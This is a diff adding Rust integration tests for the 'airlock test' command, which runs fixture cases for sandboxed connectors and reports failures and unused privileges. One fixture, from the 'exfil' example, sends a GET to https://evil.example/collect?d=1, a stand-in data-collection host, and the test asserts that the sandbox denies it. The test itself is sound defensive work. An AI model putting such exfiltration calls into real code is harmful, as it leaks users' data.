@@ -1,0 +1,209 @@
+//! `airlock test` through the binary: every example's fixture cases pass; cases that must fail
+//! (an undeclared host, a request that never comes, a wrong output) fail with a readable
+//! report; the privileges report names what a narrower run never used.
+
+use std::path::Path;
+
+use tempfile::TempDir;
+
+use crate::support::{airlock, custom_integration, example, examples, read_example, stdout};
+
+/// `airlock test ARGS…` with a data dir of its own; returns (exit code, stdout).
+fn test(data: &Path, args: &[&str]) -> (Option<i32>, String) {
+    let mut all = vec!["test"];
+    all.extend(args);
+    let out = airlock(data, &all);
+    (out.status.code(), stdout(&out))
+}
+
+#[test]
+fn every_example_passes_its_fixture_cases() {
+    let data = TempDir::new().expect("temp");
+    let mut tested = Vec::new();
+    for entry in std::fs::read_dir(examples()).expect("examples") {
+        let dir = entry.expect("entry").path();
+        if !dir.join("airlock.toml").is_file() {
+            continue;
+        }
+        let name = dir
+            .file_name()
+            .map(|n| n.to_string_lossy().into_owned())
+            .unwrap_or_default();
+        assert!(
+            dir.join("tests").is_dir(),
+            "{name} has no fixture cases (tests/*.toml)"
+        );
+        let (code, out) = test(data.path(), &[&dir.display().to_string()]);
+        assert_eq!(code, Some(0), "{name}:\n{out}");
+        assert!(out.contains("test result: ok."), "{name}:\n{out}");
+        assert!(!out.contains(" 0 passed"), "{name} ran nothing:\n{out}");
+        tested.push(name);
+    }
+    tested.sort();
+    assert_eq!(
+        tested,
+        [
+            "contact-mapper",
+            "exfil",
+            "github-issues",
+            "hostile",
+            "hostile-sockets",
+            "slack-notifier"
+        ]
+    );
+}
+
+/// The example `name` (component `wasm`) in a temp dir, with `fixture` as its only fixture
+/// file.
+fn example_with(name: &str, wasm: &str, fixture: &str) -> TempDir {
+    let manifest = read_example(name, "airlock.toml").replace(
+        &format!("component = \"../target/wasm32-wasip2/release/{wasm}\""),
+        "component = \"component.wasm\"",
+    );
+    let dir = custom_integration(name, wasm, &manifest);
+    std::fs::create_dir(dir.path().join("tests")).expect("tests dir");
+    std::fs::write(dir.path().join("tests/cases.toml"), fixture).expect("fixture");
+    dir
+}
+
+#[test]
+fn failing_cases_fail_and_say_why() {
+    let fixture = r#"
+[[case]]
+name = "a request that never comes"
+action = "create"
+input = { owner = "acme", repo = "widgets", title = "Bug" }
+output = { number = 1, url = "https://github.com/acme/widgets/issues/1" }
+
+  [[case.http]]
+  method = "POST"
+  url = "https://api.github.com/repos/acme/widgets/issues"
+  json = { title = "Bug" }
+  [case.http.response]
+  status = 201
+  json = { number = 1, html_url = "https://github.com/acme/widgets/issues/1" }
+
+  [[case.http]]
+  method = "POST"
+  url = "https://api.github.com/repos/acme/widgets/labels"
+
+[[case]]
+name = "a wrong output"
+action = "create"
+input = { owner = "acme", repo = "widgets", title = "Bug" }
+output = { number = 2, url = "https://github.com/acme/widgets/issues/2" }
+
+  [[case.http]]
+  method = "POST"
+  url = "https://api.github.com/repos/acme/widgets/issues"
+  headers = { authorization = "Bearer not-the-token" }
+  [case.http.response]
+  status = 201
+  json = { number = 3, html_url = "https://github.com/acme/widgets/issues/3" }
+
+[[case]]
+name = "a passing case"
+action = "create"
+input = { owner = "acme", repo = "widgets", title = "Bug" }
+output = { number = 4, url = "https://github.com/acme/widgets/issues/4" }
+
+  [[case.http]]
+  method = "POST"
+  url = "https://api.github.com/repos/acme/widgets/issues"
+  [case.http.response]
+  status = 201
+  json = { number = 4, html_url = "https://github.com/acme/widgets/issues/4" }
+"#;
+    let dir = example_with("github-issues", "github_issues.wasm", fixture);
+    let data = TempDir::new().expect("temp");
+    let (code, out) = test(data.path(), &[&dir.path().display().to_string()]);
+    assert_eq!(code, Some(1), "{out}");
+    assert!(
+        out.contains("test result: FAILED. 1 passed, 2 failed"),
+        "{out}"
+    );
+    for line in [
+        "case cases::a passing case ... ok",
+        "case cases::a request that never comes ... FAILED",
+        // The request that never comes.
+        "expected request never happened: POST https://api.github.com/repos/acme/widgets/labels",
+        // The wrong output, as a diff; and a header mismatch that never quotes the value sent.
+        "output differs (- expected, + actual)",
+        "-   \"number\": 2,",
+        "+   \"number\": 3,",
+        "header `authorization` is not the expected value (1 value(s) sent)",
+    ] {
+        assert!(out.contains(line), "missing {line:?} in:\n{out}");
+    }
+    assert!(
+        !out.contains("airlocktest"),
+        "dummy credentials never show:\n{out}"
+    );
+
+    // A connector calling a host its manifest does not declare: the host refuses it, so the
+    // exchange the fixture lists never happens and the case fails, saying why.
+    let undeclared = r#"
+[[case]]
+name = "an undeclared host"
+action = "fetch"
+input = { url = "https://evil.example/collect?d=1" }
+output = { attempts = [{ url = "https://evil.example/collect?d=1", outcome = "ok 200" }], body = "" }
+
+  [[case.http]]
+  method = "GET"
+  url = "https://evil.example/collect?d=1"
+"#;
+    let exfil = example_with("exfil", "exfil.wasm", undeclared);
+    let (code, out) = test(data.path(), &[&exfil.path().display().to_string()]);
+    assert_eq!(code, Some(1), "{out}");
+    for line in [
+        "case cases::an undeclared host ... FAILED",
+        "+       \"outcome\": \"HttpRequestDenied\",",
+        "expected request never happened: GET https://evil.example/collect?d=1",
+        "egress denied: GET (the URL is not kept) (no-matching-rule)",
+        "test result: FAILED. 0 passed, 1 failed",
+    ] {
+        assert!(out.contains(line), "missing {line:?} in:\n{out}");
+    }
+
+    // A fixture that is not one: a usage error naming the file and the case.
+    std::fs::write(
+        dir.path().join("tests/cases.toml"),
+        "[[case]]\nname = \"x\"\naction = \"create\"\ninput = {}\n",
+    )
+    .expect("fixture");
+    let (code, _) = test(data.path(), &[&dir.path().display().to_string()]);
+    assert_eq!(code, Some(2));
+    let out = airlock(data.path(), &["test", &dir.path().display().to_string()]);
+    let err = crate::support::stderr(&out);
+    assert!(
+        err.contains("cases.toml") && err.contains("expects neither an output nor an error"),
+        "{err}"
+    );
+}
+
+#[test]
+fn the_privileges_report_names_what_was_never_used() {
+    let data = TempDir::new().expect("temp");
+    let dir = example("github-issues").display().to_string();
+    let (code, out) = test(
+        data.path(),
+        &[&dir, "--case", "list-open skips", "--privileges"],
+    );
+    assert_eq!(code, Some(0), "{out}");
+    for line in [
+        "running 1 case(s)",
+        "egress     GET,POST https://api.github.com/repos — used; never POST",
+        "egress     GET https://api.github.com/repositories — UNUSED",
+        "credential github (bearer) — used",
+        "# removed, never used: https://api.github.com/repositories",
+        "[[egress]]\nurl = \"https://api.github.com/repos\"\nmethods = [\"GET\"]\ncredential = \"github\"",
+    ] {
+        assert!(out.contains(line), "missing {line:?} in:\n{out}");
+    }
+    // With every case, everything declared is used and nothing is cut.
+    let (code, out) = test(data.path(), &[&dir, "--privileges"]);
+    assert_eq!(code, Some(0), "{out}");
+    assert!(!out.contains("UNUSED"), "{out}");
+    assert!(!out.contains("# least privilege"), "{out}");
+}
